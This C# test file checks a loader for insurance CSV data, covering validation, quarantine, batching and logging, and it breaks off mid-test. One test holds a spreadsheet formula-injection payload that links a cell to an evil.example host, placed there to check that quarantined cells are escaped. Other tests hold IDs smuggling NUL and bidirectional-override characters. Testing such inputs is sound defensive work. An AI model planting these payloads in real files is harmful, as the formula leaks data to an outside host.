using System.Text;
using Graph.Core;

namespace Graph.Ingest.Tests;

public class FolderLoaderTests
{
    private static LoadSummary Load(RecordingStore store, TestFolder folder, LoaderOptions? options = null) =>
        new FolderLoader(store, options).Load(folder.Path);

    private static List<string[]> ReadCsv(string path)
    {
        using var reader = new Internal.Utf8CsvReader(File.OpenRead(path), Path.GetFileName(path));
        var rows = new List<string[]>();
        while (reader.Read())
        {
            var f = new string[reader.FieldCount];
            for (int i = 0; i < f.Length; i++) f[i] = reader.FieldString(i);
            rows.Add(f);
        }
        return rows;
    }

    [Fact]
    public void Minimal_folder_loads_typed_normalized_records_in_one_commit()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var store = new RecordingStore();
        var summary = Load(store, folder);

        Assert.False(summary.AlreadyLoaded);
        Assert.Single(store.CommittedLoads);
        Assert.Equal(summary.Fingerprint, store.CommittedLoads[0].Fingerprint);
        var holder = Assert.Single(store.Records.OfType<Policyholder>());
        Assert.Equal("H1", holder.Id);
        Assert.Equal("张三", holder.Name);
        Assert.Equal("13812345678", holder.Phone.Value);
        Assert.Equal(new DateTimeOffset(2020, 1, 1, 0, 0, 0, TimeSpan.FromHours(8)), holder.CreatedAt);
        Assert.Equal(2, holder.SourceLine);
        Assert.Null(holder.Extra);
        var policy = Assert.Single(store.Records.OfType<Policy>());
        Assert.Equal(1200.50m, policy.Premium);
        Assert.Equal(PolicyStatus.InForce, policy.Status);
        Assert.Equal("H1", policy.HolderId);
        Assert.Equal(["policyholders.csv", "policies.csv"], summary.Files.Select(f => f.File));
        Assert.Equal(2, summary.Read);
        Assert.Equal(2, summary.Loaded);
        Assert.Equal(0, summary.Quarantined);
        Assert.False(Directory.Exists(Path.Combine(folder.Path, "quarantine")));
    }

    [Fact]
    public void Files_are_written_in_dependency_order()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("complaints.csv", "complaint_id,holder_id,channel\nM1,H1,hotline\n");
        folder.Write("agents.csv", "agent_id,status\nA1,terminated\n");
        folder.Write("surrender_requests.csv", "request_id,policy_id\nS1,P1\n");
        folder.Write("contact_changes.csv", "change_id,holder_id,field,new_value\nC1,H1,phone,13900000000\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);

        Assert.Equal(
            [RecordKind.Policyholder, RecordKind.Agent, RecordKind.Policy, RecordKind.ContactChange, RecordKind.SurrenderRequest, RecordKind.Complaint],
            store.Records.Select(r => r.Kind));
        Assert.Equal(
            ["policyholders.csv", "agents.csv", "policies.csv", "contact_changes.csv", "surrender_requests.csv", "complaints.csv"],
            summary.Files.Select(f => f.File));
        // One batch never mixes files.
        Assert.All(store.CommittedBatches, b => Assert.Single(b.Select(r => r.Kind).Distinct()));
    }

    [Fact]
    public void Column_order_is_free_and_header_names_are_trimmed_and_case_insensitive()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", " Created_At , PHONE,holder_id \n2021-06-01,+86 138-1234-5678,H9\n", bom: true);
        var store = new RecordingStore();
        Load(store, folder);
        var holder = Assert.Single(store.Records.OfType<Policyholder>());
        Assert.Equal("H9", holder.Id);
        Assert.Equal("13812345678", holder.Phone.Value);
        Assert.Equal("+86 138-1234-5678", holder.Phone.Raw);
        Assert.Equal(2021, holder.CreatedAt!.Value.Year);
    }

    [Fact]
    public void Quoted_fields_with_line_breaks_keep_the_line_numbers_of_later_rows_right()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("complaints.csv",
            "complaint_id,holder_id,text,filed_at\r\n" +
            "M1,H1,\"第一行\r\n第二行, \"\"全额退保\"\"\r\n第三行\",2024-01-01\r\n" +
            "M2,H1,short,2024-01-02\r\n" +
            "M3,H1,short,not-a-date\r\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);
        var complaints = store.Records.OfType<Complaint>().ToList();
        Assert.Equal("第一行\r\n第二行, \"全额退保\"\r\n第三行", complaints[0].Text);
        Assert.Equal(2, complaints[0].SourceLine);
        Assert.Equal(5, complaints[1].SourceLine);
        var q = ReadCsv(folder.Quarantine("complaints.csv"));
        Assert.Equal("6", q[1][0]);
        Assert.Equal(1, summary.Files.Single(f => f.File == "complaints.csv").Quarantined);
    }

    [Fact]
    public void Unknown_columns_are_kept_as_extra_properties_with_one_warning_per_file()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", "holder_id,vip_level,name,branch_code\nH1,3,张三,\nH2,,李四,B07\nH3,,王五,\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);
        var holders = store.Records.OfType<Policyholder>().ToList();
        Assert.Equal(new Dictionary<string, string> { ["vip_level"] = "3" }, holders[0].Extra);
        Assert.Equal(new Dictionary<string, string> { ["branch_code"] = "B07" }, holders[1].Extra);
        Assert.Null(holders[2].Extra);
        var warning = Assert.Single(summary.Warnings, w => w.StartsWith("policyholders.csv") && w.Contains("vip_level"));
        Assert.Contains("branch_code", warning);
    }

    [Fact]
    public void Header_only_and_empty_optional_files_load_zero_rows()
    {
        using var folder = new TestFolder();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\r\n");
        folder.Write("policies.csv", TestFolder.PoliciesHeader);
        folder.Write("agents.csv", "");
        folder.Write("complaints.csv", "", bom: true);
        var store = new RecordingStore();
        var summary = Load(store, folder);
        Assert.Equal(4, summary.Files.Count);
        Assert.All(summary.Files, f => Assert.Equal(0, f.Read));
        Assert.Empty(store.Records);
        Assert.Single(store.CommittedLoads);
    }

    [Theory]
    [InlineData("policyholders.csv")]
    [InlineData("policies.csv")]
    public void An_empty_required_file_is_malformed(string file)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write(file, "");
        var store = new RecordingStore();
        var ex = Assert.Throws<MalformedInputException>(() => Load(store, folder));
        Assert.Equal(file, ex.File);
        Assert.Contains("header", ex.Message);
        Assert.Empty(store.CommittedLoads);
    }

    [Theory]
    [InlineData("policyholders.csv")]
    [InlineData("policies.csv")]
    public void A_missing_required_file_is_malformed_and_names_it(string file)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        File.Delete(Path.Combine(folder.Path, file));
        var store = new RecordingStore();
        var ex = Assert.Throws<MalformedInputException>(() => Load(store, folder));
        Assert.Equal(file, ex.File);
        Assert.Contains(file, ex.Message);
        Assert.Equal(0, store.LoadsBegun);
    }

    public static TheoryData<string, string, long, string> MalformedFiles => new()
    {
        { "policies.csv", "policy_id,agent_id\nP1,A1\n", 1, "holder_id" },
        { "policyholders.csv", "name,phone\n张三,13812345678\n", 1, "holder_id" },
        { "contact_changes.csv", "change_id,field,new_value\nC1,phone,1\n", 1, "holder_id" },
        { "contact_changes.csv", "change_id,holder_id,new_value\nC1,H1,1\n", 1, "field" },
        { "complaints.csv", "complaint_id,holder_id,text\nM1,H1,ok\nM2,H1,\"open\nstill open\nM3,H1,x\n", 3, "unterminated" },
        { "policyholders.csv", "holder_id,holder_id\nH1,H2\n", 1, "twice" },
    };

    [Theory]
    [InlineData("\t", "tab-separated")]
    [InlineData(";", "semicolon-separated")]
    public void A_file_separated_by_tabs_or_semicolons_is_named_as_such_not_just_missing_a_column(string separator, string said)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader.Replace(",", separator) + "\n" + "H1,张三,,13812345678,,,".Replace(",", separator) + "\n");
        var ex = Assert.Throws<MalformedInputException>(() => Load(new RecordingStore(), folder));
        Assert.Equal("policyholders.csv", ex.File);
        Assert.Equal(1, ex.Line);
        Assert.Contains("holder_id", ex.Message);
        Assert.Contains(said, ex.Message);
        Assert.Contains("commas", ex.Message);
    }

    [Theory, MemberData(nameof(MalformedFiles))]
    public void A_malformed_file_stops_the_load_names_file_and_line_and_writes_nothing(string file, string text, long line, string problem)
    {
        foreach (int parseAhead in new[] { 0, 1, 4 }) MalformedStopsTheLoad(file, text, line, problem, parseAhead);
    }

    private static void MalformedStopsTheLoad(string file, string text, long line, string problem, int parseAhead)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        // A quarantinable row in an earlier file: its quarantine file must not appear when the load fails.
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\n,no key,,,,,\nH1,张三,,,,,\n");
        folder.Write(file, text);
        var store = new RecordingStore();
        var ex = Assert.Throws<MalformedInputException>(() => Load(store, folder, new LoaderOptions { BatchSize = 1, ParseAhead = parseAhead }));
        Assert.Equal(file, ex.File);
        Assert.Equal(line, ex.Line);
        Assert.Contains(problem, ex.Message);
        Assert.Contains(file, ex.Message);
        Assert.Empty(store.CommittedLoads);
        Assert.Empty(store.CommittedBatches);
        Assert.False(Directory.Exists(Path.Combine(folder.Path, "quarantine")));
    }

    [Fact]
    public void Invalid_utf8_with_utf8_named_stops_the_load_with_the_line_and_writes_nothing()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var bytes = Encoding.UTF8.GetBytes(TestFolder.PoliciesHeader + "\nP1,H1,,,,,\nP2,H1,,");
        bytes = [.. bytes, 0xB1, 0xA3, 0xCF, 0xD5, .. Encoding.UTF8.GetBytes(",,,\n")]; // "保险" in GBK
        folder.WriteBytes("policies.csv", bytes);
        var store = new RecordingStore();
        var ex = Assert.Throws<MalformedInputException>(() => Load(store, folder, new LoaderOptions { Encoding = InputEncoding.Utf8 }));
        Assert.Equal("policies.csv", ex.File);
        Assert.Equal(3, ex.Line);
        Assert.Empty(store.CommittedBatches);
    }

    [Fact]
    public void Quarantined_rows_go_to_the_quarantine_folder_given_and_nothing_is_written_beside_the_input()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\n,no key,,,,,\nH1,张三,,,,,\n");
        var elsewhere = Path.Combine(folder.Path + "-quarantine", "q");
        try
        {
            var summary = Load(new RecordingStore(), folder, new LoaderOptions { QuarantineFolder = elsewhere });
            Assert.Equal(1, summary.Quarantined);
            Assert.Contains("missing holder_id", File.ReadAllText(Path.Combine(elsewhere, "policyholders.csv")));
            Assert.False(Directory.Exists(Path.Combine(folder.Path, "quarantine")));
        }
        finally
        {
            Directory.Delete(folder.Path + "-quarantine", recursive: true);
        }
    }

    [Fact]
    public void A_quarantine_folder_that_cannot_be_written_fails_the_load_naming_it_and_the_option()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\n,no key,,,,,\nH1,张三,,,,,\n");
        folder.Write("quarantine", "a file where the quarantine folder would go"); // as unwritable as read-only media, even for root
        var store = new RecordingStore();
        var e = Assert.Throws<IOException>(() => Load(store, folder));
        Assert.Contains(Path.Combine(folder.Path, "quarantine"), e.Message);
        Assert.Contains("--quarantine DIR", e.Message);
        Assert.Empty(store.CommittedLoads);
    }

    [Fact]
    public void Two_loads_of_one_folder_at_once_keep_their_quarantined_rows_apart()
    {
        using var folder = new TestFolder();
        var directory = Path.Combine(folder.Path, "quarantine");
        string[] header = ["holder_id", "name"];
        using var succeeding = new Graph.Ingest.Internal.QuarantineFiles(directory);
        using (var failing = new Graph.Ingest.Internal.QuarantineFiles(directory))
        {
            succeeding.Add("policyholders.csv", header, 2, "missing holder_id", ["", "甲"]);
            failing.Add("policyholders.csv", header, 7, "bad row of the other load", ["H9", "乙"]);
            failing.Close("policyholders.csv");
        } // the other load fails: its partial file goes, this one's stays

        succeeding.Publish(["policyholders.csv"]);

        var published = File.ReadAllText(Path.Combine(directory, "policyholders.csv"));
        Assert.Contains("missing holder_id", published);
        Assert.DoesNotContain("the other load", published);
        Assert.Empty(Directory.GetFiles(directory, "*.partial"));
    }

    [Fact]
    public void Earlier_quarantine_files_survive_a_failed_load_and_are_replaced_by_a_successful_one()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\n,no key,,,,,\nH1,张三,,,,,\n");
        var store = new RecordingStore();
        Load(store, folder);
        var first = File.ReadAllText(folder.Quarantine("policyholders.csv"));
        Assert.Contains("missing holder_id", first);

        folder.Write("policies.csv", "policy_id\nP1\n");
        Assert.Throws<MalformedInputException>(() => Load(store, folder));
        Assert.Equal(first, File.ReadAllText(folder.Quarantine("policyholders.csv")));
        Assert.Empty(Directory.GetFiles(Path.Combine(folder.Path, "quarantine"), "*.partial"));

        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\nH1,张三,,,,,\n");
        folder.Write("policies.csv", TestFolder.PoliciesHeader + "\nP1,H1,,,,,\n");
        Load(store, folder);
        Assert.False(File.Exists(folder.Quarantine("policyholders.csv")));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(4)]
    public void A_store_failure_mid_load_commits_nothing_and_publishes_no_quarantine(int parseAhead)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var sb = new StringBuilder(TestFolder.HoldersHeader + "\n,no key,,,,,\n");
        for (int i = 0; i < 20_000; i++) sb.Append($"H{i},,,,,,\n,no key,,,,,\n");
        folder.Write("policyholders.csv", sb.ToString());
        var store = new RecordingStore { FailOnWrite = 2 };
        Assert.Throws<IOException>(() => Load(store, folder, new LoaderOptions { BatchSize = 1, ParseAhead = parseAhead }));
        Assert.Empty(store.CommittedBatches);
        Assert.False(Directory.Exists(Path.Combine(folder.Path, "quarantine")));
    }

    [Fact]
    public void Cancellation_commits_nothing()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var store = new RecordingStore();
        using var cts = new CancellationTokenSource();
        cts.Cancel();
        Assert.ThrowsAny<OperationCanceledException>(() => new FolderLoader(store).Load(folder.Path, null, cts.Token));
        Assert.Empty(store.CommittedLoads);
    }

    [Fact]
    public void Loading_the_same_folder_twice_is_reported_as_already_loaded_and_writes_nothing()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var store = new RecordingStore();
        var first = Load(store, folder);
        int writes = store.WritesSeen;
        var second = Load(store, folder);
        Assert.True(second.AlreadyLoaded);
        Assert.Equal(first.Fingerprint, second.Fingerprint);
        Assert.Equal(writes, store.WritesSeen);
        Assert.Equal(1, store.LoadsBegun);
        Assert.Empty(second.Files);
    }

    [Fact]
    public void The_fingerprint_changes_with_content_and_with_which_file_holds_it_but_not_with_unrelated_files()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var store = new RecordingStore();
        var fp1 = Load(store, folder).Fingerprint;
        Assert.Matches("^[0-9a-f]{64}$", fp1);

        folder.Write("notes.txt", "not input");
        folder.Write("quarantine.csv.bak", "x");
        Assert.Equal(fp1, Load(new RecordingStore(), folder).Fingerprint);

        folder.Write("agents.csv", "agent_id\n");
        var fp2 = Load(new RecordingStore(), folder).Fingerprint;
        Assert.NotEqual(fp1, fp2);

        // The same bytes under another contract name are another input.
        folder.Write("agents.csv", "complaint_id,holder_id\n");
        var fpAgents = new FolderLoaderFingerprintProbe(folder).Fingerprint();
        File.Move(Path.Combine(folder.Path, "agents.csv"), Path.Combine(folder.Path, "complaints.csv"));
        var fpComplaints = new FolderLoaderFingerprintProbe(folder).Fingerprint();
        Assert.NotEqual(fpAgents, fpComplaints);
    }

    /// <summary>Reads the fingerprint through a store that says every fingerprint is loaded, so nothing is parsed.</summary>
    private sealed class FolderLoaderFingerprintProbe(TestFolder folder)
    {
        public string Fingerprint() => new FolderLoader(new EverythingLoadedStore()).Load(folder.Path).Fingerprint;
    }

    private sealed class EverythingLoadedStore : Graph.Storage.IGraphLoadTarget
    {
        public bool HasLoaded(string fingerprint) => true;
        public Graph.Storage.ILoadTransaction BeginLoad(Graph.Storage.LoadInfo info) => throw new InvalidOperationException("must not load");
    }

    [Fact]
    public void Other_csv_files_in_the_folder_are_ignored_with_a_warning()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("claims.csv", "claim_id\nX1\n");
        var summary = Load(new RecordingStore(), folder);
        Assert.Contains(summary.Warnings, w => w.StartsWith("claims.csv") && w.Contains("ignored"));
        Assert.Equal(2, summary.Files.Count);
    }

    [Fact]
    public void Every_row_is_loaded_or_quarantined_with_its_line_and_a_reason()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policies.csv",
            TestFolder.PoliciesHeader + "\n" +
            "P1,H1,A1,寿险,1200,2020-01-01,in_force\n" +  // 2 ok
            ",H1,A1,寿险,1200,2020-01-01,in_force\n" +    // 3 missing key
            "P3,,A1,寿险,1200,2020-01-01,in_force\n" +    // 4 missing holder
            "P4,H1,A1,寿险,abc,2020-01-01,in_force\n" +   // 5 bad money
            "P5,H1,A1,寿险,-100,2020-01-01,in_force\n" +  // 6 negative money
            "P6,H1,A1,寿险,100,2020-02-30,in_force\n" +   // 7 bad date
            "P7,H1,A1,寿险,100,2020-02-03,cancelled\n" +  // 8 unknown status
            "P8,H1,A1,寿险,100\n" +                        // 9 too few fields
            "P9,H1,A1,\"寿险,附加\",100,,IN_FORCE,extra\n" + // 10 too many fields
            "P1,H1,A2,寿险,1300,2020-01-01,lapsed\n");     // 11 repeated key: loaded, last wins in store
        folder.Write("agents.csv", "agent_id,status,hired_at\nA1,active,2019-01-01\nA2,retired,\n,active,\n");
        folder.Write("contact_changes.csv",
            "change_id,holder_id,policy_id,field,new_value,changed_at\n" +
            "C1,H1,,bank_account,6222 0212 3456 7890,2024-01-01T10:00:00\n" +
            "C2,,,phone,13800000000,2024-01-01\n" +
            "C3,H1,,fax,123,2024-01-01\n" +
            "C4,,P1,email,A@B.CN,2024-01-01\n" +
            "C5,H1,,,x,2024-01-01\n");
        folder.Write("surrender_requests.csv", "request_id,policy_id,amount,status\nS1,P1,\"1,000.00\",paid\nS2,P1,12,3x,paid\nS3,P1,5,unknown\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);

        foreach (var f in summary.Files) Assert.Equal(f.Read, f.Loaded + f.Quarantined);
        var policies = summary.Files.Single(f => f.File == "policies.csv");
        Assert.Equal((10L, 2L, 8L), (policies.Read, policies.Loaded, policies.Quarantined));
        Assert.Equal(["P1", "P1"], store.Records.OfType<Policy>().Select(p => p.Id));
        Assert.Contains(summary.Warnings, w => w.StartsWith("policies.csv") && w.Contains("repeat"));

        var q = ReadCsv(folder.Quarantine("policies.csv"));
        Assert.Equal(["line", "reason", .. TestFolder.PoliciesHeader.Split(',')], q[0]);
        Assert.Equal(["3", "4", "5", "6", "7", "8", "9", "10"], q.Skip(1).Select(r => r[0]));
        Assert.All(q.Skip(1), r => Assert.False(string.IsNullOrWhiteSpace(r[1])));
        Assert.Contains("policy_id", q[1][1]);
        Assert.Contains("holder_id", q[2][1]);
        Assert.Contains("premium", q[3][1]);
        Assert.Contains("premium", q[4][1]);
        Assert.Contains("issued_at", q[5][1]);
        Assert.Contains("status", q[6][1]);
        Assert.Contains("fields", q[7][1]);
        // The original values follow, re-quoted where needed.
        Assert.Equal(["P4", "H1", "A1", "寿险", "abc", "2020-01-01", "in_force"], q[3][2..]);
        Assert.Equal(["P9", "H1", "A1", "寿险,附加", "100", "", "IN_FORCE", "extra"], q[8][2..]);

        var agents = summary.Files.Single(f => f.File == "agents.csv");
        Assert.Equal((3L, 1L, 2L), (agents.Read, agents.Loaded, agents.Quarantined));
        var changes = summary.Files.Single(f => f.File == "contact_changes.csv");
        Assert.Equal((5L, 2L, 3L), (changes.Read, changes.Loaded, changes.Quarantined));
        var surrenders = summary.Files.Single(f => f.File == "surrender_requests.csv");
        Assert.Equal((3L, 1L, 2L), (surrenders.Read, surrenders.Loaded, surrenders.Quarantined));
        Assert.Equal(1000.00m, store.Records.OfType<SurrenderRequest>().Single().Amount);
        Assert.Equal(summary.Read, summary.Loaded + summary.Quarantined);

        var change = store.Records.OfType<ContactChange>().First();
        Assert.Equal(ContactField.BankAccount, change.Field);
        Assert.Equal("6222021234567890", change.NewValue.Value);
        Assert.Equal("a@b.cn", store.Records.OfType<ContactChange>().Last().NewValue.Value);
        Assert.Equal(new DateTimeOffset(2024, 1, 1, 10, 0, 0, TimeSpan.FromHours(8)), change.ChangedAt);
    }

    [Fact]
    public void Ids_holding_control_characters_are_quarantined_with_the_column_and_what_it_holds()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\nH1,张三,,13812345678,,,\nH0002\0X,李四,,,,,\n\"H3\nH4\",王五,,,,,\nH5\u202E,赵六,,,,,\n");
        folder.Write("policies.csv", TestFolder.PoliciesHeader + "\nP1,H1,A1,寿险,1,,\nP2,H0002\0X,A1,寿险,1,,\nP3,H1,A\u00071,寿险,1,,\n");
        folder.Write("complaints.csv", "complaint_id,holder_id,policy_id\nM1,H1,\nM2,H1\0,\nM3,,P1\u2028\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);

        Assert.Equal(["H1"], store.Records.OfType<Policyholder>().Select(h => h.Id));
        Assert.Equal(["P1"], store.Records.OfType<Policy>().Select(p => p.Id));
        Assert.Equal(["M1"], store.Records.OfType<Complaint>().Select(c => c.Id));
        Assert.All(store.Records, r => Assert.DoesNotContain(r.Id, c => char.IsControl(c) || c == '\u202E'));
        foreach (var f in summary.Files) Assert.Equal(f.Read, f.Loaded + f.Quarantined);

        var holders = ReadCsv(folder.Quarantine("policyholders.csv"));
        Assert.Equal(["3", "4", "6"], holders.Skip(1).Select(r => r[0]));
        Assert.Equal("holder_id holds a NUL byte; ids may not hold control characters", holders[1][1]);
        Assert.Contains("holder_id holds a line break", holders[2][1]);
        Assert.Contains("holder_id holds U+202E", holders[3][1]);
        var policies = ReadCsv(folder.Quarantine("policies.csv"));
        Assert.Contains("holder_id holds a NUL byte", policies[1][1]);
        Assert.Contains("agent_id holds U+0007", policies[2][1]);
        var complaints = ReadCsv(folder.Quarantine("complaints.csv"));
        Assert.Contains("holder_id holds a NUL byte", complaints[1][1]);
        Assert.Contains("policy_id holds a line break", complaints[2][1]);
    }

    [Fact]
    public void Quarantined_cells_that_a_spreadsheet_would_run_as_formulas_are_guarded()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader +
            "\nH1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,+8613812345678,-2+3,@SUM(A1),not-a-date\n");
        var summary = Load(new RecordingStore(), folder);
        Assert.Equal(1, summary.Quarantined);

        var text = File.ReadAllText(folder.Quarantine("policyholders.csv"));
        Assert.Contains("\"'=HYPERLINK(", text);
        Assert.Contains(",'+8613812345678,", text);
        Assert.Contains(",'-2+3,", text);
        Assert.Contains(",'@SUM(A1),", text);
        var row = ReadCsv(folder.Quarantine("policyholders.csv"))[1];
        Assert.All(row, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
    }

    [Fact]
    public void Invalid_phones_ids_and_accounts_are_kept_raw_and_counted_not_quarantined()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\nH1,张三,11010519491231002X,12345,地址,北京,\nH2,李四,110105194912310021,13812345678,,,\n");
        folder.Write("surrender_requests.csv",
            "request_id,policy_id,payout_account,representative_name,representative_id_number,representative_phone\n" +
            "S1,P1,6222021234567891,王五,not-an-id,139-0000-0000\n" +
            "S2,P1,ABC123,,,\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);
        Assert.Equal(0, summary.Quarantined);
        var holders = store.Records.OfType<Policyholder>().ToList();
        Assert.Equal("11010519491231002X", holders[0].IdNumber.Value);
        Assert.Equal("12345", holders[0].Phone.Raw);
        Assert.Null(holders[0].Phone.Value);
        Assert.Null(holders[1].IdNumber.Value); // wrong check digit
        Assert.Equal("110105194912310021", holders[1].IdNumber.Raw);
        var s = store.Records.OfType<SurrenderRequest>().ToList();
        Assert.Equal("6222021234567891", s[0].PayoutAccount.Value);
        Assert.Equal("王五", s[0].Representative!.Name);
        Assert.Null(s[0].Representative!.IdNumber.Value);
        Assert.Equal("13900000000", s[0].Representative!.Phone.Value);
        Assert.Equal("王五|13900000000", s[0].Representative!.Key);
        Assert.Null(s[1].PayoutAccount.Value);
        Assert.Null(s[1].Representative);
        Assert.Contains(summary.Warnings, w => w.StartsWith("surrender_requests.csv") && w.Contains("Luhn"));
        Assert.Contains(summary.Warnings, w => w.StartsWith("policyholders.csv") && w.Contains("1 phone"));
        Assert.Contains(summary.Warnings, w => w.StartsWith("policyholders.csv") && w.Contains("1 id number"));
        // Warnings never carry the values themselves.
        Assert.DoesNotContain(summary.Warnings, w => w.Contains("12345") || w.Contains("1101051949"));
    }

    [Fact]
    public void Spellings_of_one_flat_load_as_one_address_with_each_raw_spelling_kept()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        // H1 writes no city in the address but has it in its city column; H2 writes the full form.
        folder.Write("policyholders.csv", TestFolder.HoldersHeader +
            "\nH1,张三,,,文三路100号华星小区5栋2单元301,杭州,2020-01-01\nH2,李四,,,浙江省杭州市西湖区文三路100号华星小区5幢2单元301室,杭州,2020-01-01\n");
        folder.Write("contact_changes.csv", "change_id,holder_id,field,old_value,new_value\n" +
            "C1,H3,address,,杭州市西湖区文三路100号华星小区5-2-301\n" +
            "C2,H4,address,,文三路100号华星小区5-2-301\n");
        folder.Write("complaints.csv", "complaint_id,holder_id,channel,sender_address\nM1,H3,letter,西湖区文三路一百号华星小区五栋二单元三〇一\n");
        var store = new RecordingStore();
        Load(store, folder);

        const string key = "杭州市文三路100号华星5栋2单元301室";
        var holders = store.Records.OfType<Policyholder>().ToList();
        var changes = store.Records.OfType<ContactChange>().ToList();
        Assert.All(holders, h => Assert.Equal(key, h.Address.Value));
        Assert.Equal(key, changes[0].NewValue.Value);
        Assert.Equal(["文三路100号华星小区5栋2单元301", "浙江省杭州市西湖区文三路100号华星小区5幢2单元301室"], holders.Select(h => h.Address.Raw));
        Assert.Equal("杭州市西湖区文三路100号华星小区5-2-301", changes[0].NewValue.Raw);
        // A change or complaint row has no city column: its address is not given the holder's city (it may be a
        // ring's flat elsewhere), so a spelling without a city stays a node of its own.
        Assert.Equal("文三路100号华星5栋2单元301室", changes[1].NewValue.Value);
        var complaint = store.Records.OfType<Complaint>().Single();
        Assert.Equal("文三路100号华星5栋2单元301室", complaint.SenderAddress.Value);
        Assert.Equal("西湖区文三路一百号华星小区五栋二单元三〇一", complaint.SenderAddress.Raw);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(2)]
    public void Batches_respect_the_batch_size_and_progress_is_reported(int parseAhead)
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        var sb = new StringBuilder(TestFolder.HoldersHeader + "\n");
        for (int i = 0; i < 25; i++) sb.Append($"H{i},,,,,,\n");
        folder.Write("policyholders.csv", sb.ToString());
        var store = new RecordingStore();
        var reports = new List<LoadProgress>();
        int caller = Environment.CurrentManagedThreadId;
        var threads = new HashSet<int>();
        var summary = new FolderLoader(store, new LoaderOptions { BatchSize = 10, ProgressInterval = 10, ParseAhead = parseAhead })
            .Load(folder.Path, new SynchronousProgress(p => { reports.Add(p); threads.Add(Environment.CurrentManagedThreadId); }));
        Assert.Equal([caller], threads); // progress arrives on the calling thread in both modes
        Assert.Equal([caller], store.CallingThreads); // and so do the store's calls
        Assert.Equal([10, 10, 5, 1], store.CommittedBatches.Select(b => b.Count));
        Assert.Contains(reports, r => r.File == "policyholders.csv" && r.RowsRead == 20);
        var last = reports[^1];
        Assert.Equal(last.BytesTotal, last.BytesRead);
        Assert.True(reports.Zip(reports.Skip(1)).All(p => p.First.BytesRead <= p.Second.BytesRead));
        Assert.Equal(26, summary.Loaded);
    }

    [Fact]
    public void Representatives_are_built_only_when_a_column_names_one()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("complaints.csv",
            "complaint_id,policy_id,representative_name,representative_id_number,representative_phone,sender_address,channel\n" +
            "M1,P1,,11010519491231002x,,\"  北京市 朝阳区　建国路８８号 \",REGULATOR\n" +
            "M2,P1,,,,,\n");
        var store = new RecordingStore();
        Load(store, folder);
        var m = store.Records.OfType<Complaint>().ToList();
        Assert.Equal("11010519491231002X", m[0].Representative!.Key);
        Assert.Equal("北京市建国路88号", m[0].SenderAddress.Value); // the parsed key (ChineseAddress)
        Assert.Equal(ComplaintChannel.Regulator, m[0].Channel);
        Assert.Null(m[1].Representative);
        Assert.Equal(ComplaintChannel.Unknown, m[1].Channel);
    }

    [Fact]
    public void Trailing_unnamed_columns_may_be_left_off_and_extra_empty_fields_are_harmless_but_extra_values_quarantine()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", "holder_id,name,\nH1,张三\nH2,李四,\nH3,王五,,,\nH4,赵六,,x\nH5\n");
        var store = new RecordingStore();
        var summary = Load(store, folder);
        Assert.Equal(["H1", "H2", "H3"], store.Records.OfType<Policyholder>().Select(h => h.Id));
        var q = ReadCsv(folder.Quarantine("policyholders.csv"));
        Assert.Equal(["5", "6"], q.Skip(1).Select(r => r[0]));
        Assert.Contains(summary.Warnings, w => w.StartsWith("policyholders.csv") && w.Contains("without a header name"));
    }

    [Fact]
    public void Log_events_use_the_ingest_id_range_and_never_carry_personal_data()
    {
        using var folder = TestFolder.WithMinimalRequiredFiles();
        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\nH1,张三丰,11010519491231002X,13812345678,北京市朝阳区建国路88号,北京,2020-01-01\nH2,李四,bad-id,12345,,,bad-date\n");
        folder.Write("complaints.csv", "complaint_id,holder_id,note\nM1,H1,x\n");
        var logger = new CapturingLogger();
        new FolderLoader(new RecordingStore(), logger: logger).Load(folder.Path);
        folder.Write("policies.csv", "policy_id,holder_id\n\"P1,H1\n");
        Assert.Throws<MalformedInputException>(() => new FolderLoader(new RecordingStore(), logger: logger).Load(folder.Path));

        Assert.NotEmpty(logger.Entries);
